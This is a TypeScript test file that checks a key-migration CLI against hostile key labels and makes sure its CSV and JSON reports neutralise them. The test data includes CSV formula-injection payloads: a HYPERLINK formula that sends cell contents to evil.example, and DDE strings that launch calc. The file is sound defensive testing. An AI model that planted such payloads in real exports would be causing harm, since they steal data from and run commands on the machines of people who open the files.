import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { formatManifestCsv } from "../../src/manifest/read.js";
import { generateKey } from "../../src/testkit/sample-key-generation.js";
import type { SampleKey } from "../../src/testkit/sample-keys.js";
import { PROVENANCE_TAGS } from "../../src/workers/phases/index.js";
import { Figures } from "../helpers/chaos/figures.js";
import { addToFigures, checkInvariants } from "../helpers/chaos/invariants.js";
import { runCli } from "../helpers/cli.js";
import { cliEnvironment } from "../helpers/fleet.js";
import { type KmsEmulator, startKmsEmulator } from "../helpers/kms-emulator.js";
import { emulatorKms } from "../helpers/pipeline.js";
import { randomPrefix, wipeCampaign } from "../helpers/redis.js";
import { createTestToken, listTokenObjects, type TestToken, withTokenSession } from "../helpers/softhsm.js";

const EC = {
  keySpec: "ECC_NIST_P256",
  defaultUsage: "SIGN_VERIFY",
  kind: { type: "ec", curveOidDerHex: "06082a8648ce3d030107" },
};
const HMAC = { keySpec: "HMAC_256", defaultUsage: "GENERATE_VERIFY_MAC", kind: { type: "hmac", bytes: 32 } };
const LONG = `${"🔑".repeat(6)}${"é".repeat(50)}${"x".repeat(200)}`;

/** Hostile labels: quoting, formulas, unicode, the longest a manifest allows, a control character. */
const HOSTILE: Array<{
  label: string;
  kind: typeof EC | typeof HMAC;
  extractable?: boolean;
  idOnly?: boolean;
}> = [
  { label: 'he said "hi", then left', kind: EC },
  { label: '=HYPERLINK("http://evil.example/?"&A1,"click")', kind: HMAC },
  { label: "+cmd|' /C calc'!A0", kind: EC },
  { label: "-2+3", kind: HMAC },
  { label: "@SUM(1+1)*cmd|' /C calc'!A0", kind: EC },
  { label: "ключ 🔑 鍵 ﷽ é e\u0301", kind: HMAC },
  { label: LONG, kind: EC },
  { label: "semi;colon=tag,with\\back\\slash and 'single' quotes", kind: HMAC },
  { label: "only-by-id", kind: EC, idOnly: true },
  { label: "=1+2 not extractable", kind: EC, extractable: false },
  { label: "line one\nline two", kind: HMAC },
];

const figures = new Figures("hostile input through enqueue -> migrate -> report");
let token: TestToken;
let emulator: KmsEmulator;
let keys: SampleKey[];
let objectsBefore: number;
const prefix = randomPrefix("hostile");

beforeAll(async () => {
  token = await createTestToken();
  keys = HOSTILE.map(
    (entry, index) =>
      ({
        label: entry.label,
        // The id-only key's CKA_ID is 32 bytes: the longest ids are still found and reported.
        idHex: entry.idOnly ? "ab".repeat(32) : `e0${index.toString(16).padStart(4, "0")}`,
        extractable: entry.extractable ?? true,
        ...entry.kind,
      }) as SampleKey,
  );
  await withTokenSession(token.env, async (pkcs11, session) => {
    for (const key of keys) await generateKey(pkcs11, session, key);
  });
  objectsBefore = (await listTokenObjects(token.env)).length;
  emulator = await startKmsEmulator({ quotas: false, acceptKwpZeroPadding: true });
});

afterAll(async () => {
  figures.print();
  await emulator?.close();
  await wipeCampaign(prefix);
  await token?.cleanup();
});

const FORMULA = /^[=+\-@\t\r]/;

describe("hostile labels and ids", () => {
  it("go through enqueue -> migrate -> report intact, the one with a control character is refused by line, CSV cells are neutralised", async () => {
    const env = cliEnvironment(token.env, emulator.url, prefix);
    const manifest = join(token.dir, "hostile.csv");
    await writeFile(
      manifest,
      formatManifestCsv(
        HOSTILE.map((entry, index) => ({
          ...(entry.idOnly ? {} : { source_label: entry.label }),
          source_id: keys[index]?.idHex ?? "",
          description: `"${entry.label}", imported; =cmd|' /C calc'!A0\nsecond line`,
          tags: "team=@ops;note=+1",
        })),
      ),
    );
    const reportPath = join(token.dir, "report.csv");
    const migrated = await runCli(["migrate", manifest, "--out", reportPath], env);
    // A refused row and a failed key: exit 1, and the refused row is named with its line and the reason.
    expect(migrated.code, migrated.output).toBe(1);
    expect(migrated.output).toMatch(/line \d+, column source_label: .*control character/);

    const accepted = HOSTILE.filter((entry) => !entry.label.includes("\n"));
    const csvText = await readFile(reportPath, "utf8");
    const rows = parse(csvText, { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(accepted.length);
    for (const row of rows) for (const value of Object.values(row)) expect(value).not.toMatch(FORMULA);
    const shownInCsv = (label: string) => (FORMULA.test(label) ? `'${label}` : label);
    expect(rows.map((row) => row["source_label"]).sort()).toEqual(
      accepted.map((entry) => shownInCsv(entry.label)).sort(),
    );
    const fromStdout = await runCli(["report"], env);
    expect(fromStdout.output.slice(fromStdout.output.indexOf("source_label,"))).toBe(csvText);

    const json = await runCli(["report", "--format", "json"], env);
    const entries = JSON.parse(json.output.slice(json.output.indexOf("["))) as Array<Record<string, string>>;
    expect(entries.map((entry) => entry["source_label"]).sort()).toEqual(
      accepted.map((entry) => entry.label).sort(),
    );
    for (const entry of entries) {
      const hostile = HOSTILE.find((candidate) => candidate.label === entry["source_label"]);
      expect(entry["status"], entry["source_label"]).toBe(
        hostile?.extractable === false ? "failed" : "migrated",
      );
    }
    const refused = entries.find((entry) => entry["status"] === "failed");
    expect(refused?.["error"]).toContain('"=1+2 not extractable"');

    // KMS: provenance tags hold a tag-safe form of the label (at most 256 characters), never the raw text.
    const kms = emulatorKms(emulator.url);
    try {
      for (const entry of entries.filter((candidate) => candidate["kms_key_id"])) {
        const tags = await kms.listResourceTags(entry["kms_key_id"] ?? "");
        const tag = tags[PROVENANCE_TAGS.sourceLabel] ?? "";
        expect(tag.length).toBeLessThanOrEqual(256);
        expect(tag).toMatch(/^[\p{L}\p{N}\p{Zs}_.:/=+\-@]*$/u);
        expect(tags["team"]).toBe("@ops");
      }
    } finally {
      kms.close();
    }

    const report = await checkInvariants({
      prefix,
      emulatorUrl: emulator.url,
      tokenEnv: token.env,
      hsmObjectsBefore: objectsBefore,
      expectedKeys: accepted.length,
      allowedFailures: ["SOURCE_KEY_NOT_EXTRACTABLE"],
    });
    figures.trials++;
    addToFigures(figures, report);
    expect(report.problems).toEqual([]);
    expect(report.migrated).toBe(accepted.length - 1);
  }, 120_000);
});
